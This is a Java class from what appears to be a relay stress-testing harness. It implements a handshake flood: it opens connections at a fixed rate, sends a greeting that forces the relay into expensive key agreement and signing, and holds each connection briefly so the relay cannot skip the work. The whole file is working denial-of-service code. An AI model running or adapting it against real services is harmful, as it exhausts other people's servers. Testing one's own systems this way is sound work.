package org.waystation.ops.siege.attack;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.util.ArrayDeque;
import java.util.Deque;

/** Has the relay agree on keys and sign, which costs it a thousand times what it costs the attacker, and is gone. */
final class HandshakeFlood implements Attack {
    private static final int PER_SECOND = 200;
    /** So long the attacker waits before it leaves: else the relay would see a reset and spare itself the work. */
    private static final int KEPT = 20;

    private final Camp camp;
    private final ByteBuffer hello;
    private final Pace connecting = new Pace(PER_SECOND);
    private final Deque<SocketChannel> open = new ArrayDeque<>();

    HandshakeFlood(Camp camp) throws IOException {
        this.camp = camp;
        this.hello = Greeting.of(camp);
    }

    @Override
    public void tick() throws IOException {
        for (int due = connecting.due(); due > 0; due--) {
            SocketChannel channel = SocketChannel.open(camp.address());
            channel.write(hello.duplicate());
            open.add(channel);
            camp.score().count(Score.TRIED);
            if (open.size() > KEPT) {
                leave(open.remove());
            }
        }
    }

    private void leave(SocketChannel channel) throws IOException {
        channel.configureBlocking(false);
        int answered = channel.read(ByteBuffer.allocate(1 << 14));
        camp.score().count(answered > 0 ? "answered with a signature" : "not answered");
        channel.close();
    }
}
